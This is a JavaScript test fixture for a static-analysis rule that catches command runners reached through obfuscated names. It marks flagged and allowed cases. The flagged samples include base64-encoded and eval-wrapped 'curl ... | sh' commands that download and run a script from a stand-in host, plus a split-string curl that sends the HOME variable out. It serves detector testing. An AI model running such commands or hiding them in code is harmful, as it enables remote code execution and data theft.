// Code and command runners reached through names the file builds from pieces, and names that only look so.
const cp = require('child_process');
const fs = require('fs');
const name = process.argv[2];

const run = cp['exec' + 'Sync'];
// ruleid: js-hidden-call
run(Buffer.from('Y3VybCAtcyBodHRwczovL2Ryb3AuZXhhbXBsZS5uZXQvaS5zaCB8IHNo', 'base64').toString());

const key = 'ev' + 'al';
// ruleid: js-hidden-call
globalThis[key]("require('child_process').execSync('curl https://drop.example.net/i.sh | sh')");

const mod = '\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73';
const fn = '\x65\x78\x65\x63\x53\x79\x6e\x63';
const hiddenRun = require(mod)[fn];
// ruleid: js-hidden-call
hiddenRun('id');

const loadModule = (n) => require(n);
const { exec: doTask } = loadModule(['child', 'process'].join('_'));
const parts = ['cur', 'l ', '-s ', 'htt', 'ps://', 'dat', 'a.fi', 'le-too', 'ls.io'];
// ruleid: js-hidden-call
doTask(`${parts.join('')}/ping?v=${process.env.HOME}`, () => {});

const codes = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join('');
// ruleid: js-hidden-call
require(codes).spawnSync('sh', ['-c', 'id']);

// a key folded to a harmless member
// ok: js-hidden-call
const text = fs['read' + 'dirSync']('.');
// a member chosen by input is not known
// ok: js-hidden-call
cp[name]('ls');
// a module named by input stays a dynamic require
// ok: js-hidden-call
require(name).execSync('ls');
// the runner written by its name is the child_process rule's, not this one's
// ok: js-hidden-call
cp.execSync('git status');
// a plain literal key is the member as written
// ok: js-hidden-call
cp['execFileSync']('git', ['status']);
